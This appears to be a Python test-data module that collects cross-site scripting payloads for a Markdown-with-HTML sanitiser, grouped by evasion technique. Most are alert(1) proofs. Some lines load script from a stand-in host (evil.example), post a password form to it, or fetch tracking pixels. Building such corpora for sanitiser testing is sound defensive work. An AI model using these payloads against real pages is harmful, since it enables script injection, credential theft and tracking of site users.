"""Ways in which others have brought script past a filter, by technique, written for Markdown that allows some HTML."""

PLAIN = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script>
<script\t>alert(1)</script\t>
<script src="//evil.example/x.js" async defer></script>
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>/* </scr */ alert(1)</script >
<script type="module">import "//evil.example/x.js"</script>
<svg><script>alert(1)</script></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<noscript><p title="</noscript><script>alert(1)</script>"></noscript>
<template><script>alert(1)</script></template>
""".strip().splitlines()

EVENT_HANDLERS = '''
<img src=x onerror=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror\t=alert(1)>
<img src=x `onerror=alert(1)`>
<img src=x:x onerror=\\u0061lert(1)>
<img """><script>alert(1)</script>">
<img src='x'onerror='alert(1)'>
<img src="x` `<script>alert(1)</script>"` `>
<p onclick=alert(1)>text</p>
<p onmouseover="alert(1)">text</p>
<details open ontoggle=alert(1)>text</details>
<table onbeforematch=alert(1)><tr><td>x</td></tr></table>
<b onfocus=alert(1) tabindex=0 autofocus>text</b>
<a href=# onpointerenter=alert(1)>text</a>
<abbr title="x" onanimationstart="alert(1)">text</abbr>
<blockquote onwheel=alert(1)>text</blockquote>
<h1 id=x onfocusin=alert(1)>text</h1>
<time datetime=x onclick=alert(1)>text</time>
<ol start=1 onclick=alert(1)><li>x</li></ol>
<pre onscroll=alert(1)>text</pre>
<del onclick="alert(1)">text</del>
<a href="x"on\x0bclick=alert(1)>text</a>
<img src=x one\x00rror=alert(1)>
<img src=x onload&#61;alert(1)>
'''.strip().splitlines()

ADDRESSES = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](java&#x0A;script:alert(1))
[x](java&Tab;script:alert(1))
[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
[x](\x01javascript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](vbscript:msgbox(1))
[x](livescript:alert(1))
[x](mocha:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:text/html,<script>alert(1)</script>)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](blob:https://example.com/1)
[x](filesystem:https://example.com/1)
[x](view-source:javascript:alert(1))
[x](feed:javascript:alert(1))
[x](jar:javascript:alert(1)!/)
[x](file:///etc/passwd)
[x](about:blank)
[x](intent://evil.example#Intent;scheme=http;end)
[x](//evil.example/x "title" onclick=alert(1))
[x](https://a.example "&quot; onclick=alert(1) x=&quot;")
[x]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
<a href="javascript:alert(1)">x</a>
<a href="\x09javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="javascript:alert(1)//https://example.com">x</a>
<a href=javascript&#0000058alert(1)>x</a>
<a href="x" xlink:href="javascript:alert(1)">x</a>
<a href='&#x1;javascript:alert(1)'>x</a>
<a href="//evil.example/%0d%0aSet-Cookie:x">x</a>
<a href="https:javascript:alert(1)">x</a>
<a id="x" name="constructor" href="jav\x0aascript:alert(1)">x</a>
""".strip().splitlines()

PICTURES = """
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](https://evil.example/pixel.gif)
![x](//evil.example/pixel.gif)
![x](/\\evil.example/pixel.gif)
![x](\\\\evil.example\\pixel.gif)
![x](https://evil.example/"onerror="alert(1))
![x](x "onerror=alert(1)")
![x" onerror="alert(1)](x)
![x][y]\\n\\n[y]: javascript:alert(1)
<img src="javascript:alert(1)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img srcset="https://evil.example/x 1x" src=x>
<img src="https://evil.example/x" referrerpolicy=unsafe-url>
<img src=# usemap=#m><map name=m><area href=javascript:alert(1)></map>
<image src="https://evil.example/x">
<input type=image src=https://evil.example/x>
""".strip().splitlines()

ELEMENTS = """
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="//evil.example/x.swf">
<applet code=x archive=//evil.example/x.jar></applet>
<base href="https://evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<form action="https://evil.example/"><input name=password><button>Sign in</button></form>
<button formaction=javascript:alert(1)>x</button>
<isindex type=image src=1 onerror=alert(1)>
<video src=x onerror=alert(1)></video>
<audio src=https://evil.example/x autoplay></audio>
<video><source onerror=alert(1)></video>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<frameset onload=alert(1)><frame src=//evil.example></frameset>
<svg onload=alert(1)>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>
<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<portal src=https://evil.example></portal>
<dialog open>x</dialog>
<slot onslotchange=alert(1)></slot>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<select><script>alert(1)</script></select>
<textarea><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
""".strip().splitlines()

STYLES = """
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p style="position:fixed;inset:0;background:red">x</p>
<style>@import "//evil.example/x.css";</style>
<style>p{background:url(https://evil.example/x)}</style>
<table background="javascript:alert(1)"><tr><td background="//evil.example/x">x</td></tr></table>
<p class="callout" style=x>x</p>
<font color="expression(alert(1))">x</font>
""".strip().splitlines()

BROKEN = """
<p title="<!--"><script>alert(1)</script>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<comment><img src="</comment><img src=x onerror=alert(1)//">
<p title="</p><script>alert(1)</script>
<a href="https://a.example
<img src="x" alt="`><script>alert(1)</script>">
<b <script>alert(1)</script>0
<p/onclick=alert(1)//text>
</p/onclick=alert(1)><script>alert(1)</script>
<%<!--'%><script>alert(1);</script -->
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<table><td><svg><desc><table><p><style><img src=x onerror=alert(1)>
<p>\x00<script>alert(1)</script></p>
\ufeff<script>alert(1)</script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
""".strip().splitlines()

MARKDOWN = """
```"><script>alert(1)</script>
~~~ <img src=x onerror=alert(1)>
`<script>alert(1)</script>`
**<script>alert(1)</script>**
# <script>alert(1)</script>
# x {#x onclick=alert(1)}
| <script>alert(1)</script> | x |\\n| - | - |\\n| <img src=x onerror=alert(1)> | y |
> <script>alert(1)</script>
- <script>alert(1)</script>
[^1]\\n\\n[^1]: <script>alert(1)</script>
[<script>alert(1)</script>](https://a.example)
[![x](javascript:alert(1))](javascript:alert(1))
> [!NOTE"><script>alert(1)</script>]
term\\n: <script>alert(1)</script>
[x](media:"><script>alert(1)</script>)
[x](article:1#"><script>alert(1)</script>)
<https://a.example/"onclick="alert(1)>
https://a.example/"onmouseover="alert(1)
mailto:x@a.example?subject="><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
""".strip().splitlines()

EVASIONS = [
    evasion.replace("\\n", "\n")
    for group in (PLAIN, EVENT_HANDLERS, ADDRESSES, PICTURES, ELEMENTS, STYLES, BROKEN, MARKDOWN)
    for evasion in group
]
